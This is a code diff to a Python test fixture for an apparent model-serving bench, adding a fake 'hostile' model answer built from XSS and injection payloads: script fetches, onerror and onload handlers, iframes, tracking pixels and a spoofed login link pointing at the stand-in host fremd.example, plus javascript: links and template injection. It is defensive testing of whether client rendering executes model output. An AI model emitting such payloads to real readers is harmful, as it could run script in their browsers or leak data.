@@ -12,6 +12,22 @@ from bench.fake_model_answers import Kind
 REASONING: Final = 'GEHEIM: the person seems to want something, let me think about { "a": 1 } and more.'
 """Reasoning text; whoever sees ``GEHEIM`` outside of the server has found a leak."""
 
+HOSTILE_HOST: Final = "fremd.example"
+HOSTILE: Final = f"""<script>window.fremd = 1; fetch("http://{HOSTILE_HOST}/skript")</script>
+<img src="http://{HOSTILE_HOST}/bild.png" onerror="window.fremd = 2"><svg onload="window.fremd = 3"></svg>
+<iframe src="http://{HOSTILE_HOST}/rahmen"></iframe><link rel="stylesheet" href="http://{HOSTILE_HOST}/stil.css">
+<form action="http://{HOSTILE_HOST}/formular"><button>Weiter</button></form>
+
+![Pixel](http://{HOSTILE_HOST}/pixel.png?geheim=1) ![Pixel](//{HOSTILE_HOST}/pixel.png)
+
+[Klick](javascript:window.fremd=4) [Klick](JaVa\tScript:window.fremd=5) [Klick](data:text/html,<script>1</script>)
+[bank.example](http://bank.example@{HOSTILE_HOST}/anmelden) <javascript:window.fremd=6>
+
+</script></textarea><script>window.fremd = 7</script>
+{{{{constructor.constructor("window.fremd = 8")()}}}} ${{window.fremd = 9}}
+"""
+"""What a model must not be able to do to whoever reads it: ``window.fremd`` tells whether anything ran."""
+
 CONTENT_FAULTS: Final = (
     "prose",
     "fenced",
@@ -27,6 +43,7 @@ CONTENT_FAULTS: Final = (
     "unclosed_think",
     "only_close_think",
     "format_think_prose",
+    "hostile",
 )
 """Faults of what the model says; the HTTP reply is in order."""
 SERVER_FAULTS: Final = (
@@ -115,4 +132,5 @@ _MISSPOKEN: Final[Mapping[str, Callable[[str], Spoken]]] = {
     "think": lambda content: Spoken(f"<think>{REASONING}</think>\n\n{content}"),
     "unclosed_think": lambda _: Spoken(f"<think>\n{REASONING}"),
     "only_close_think": lambda content: Spoken(f"{REASONING}\n</think>\n{content}"),
+    "hostile": lambda _: Spoken(HOSTILE),
 }
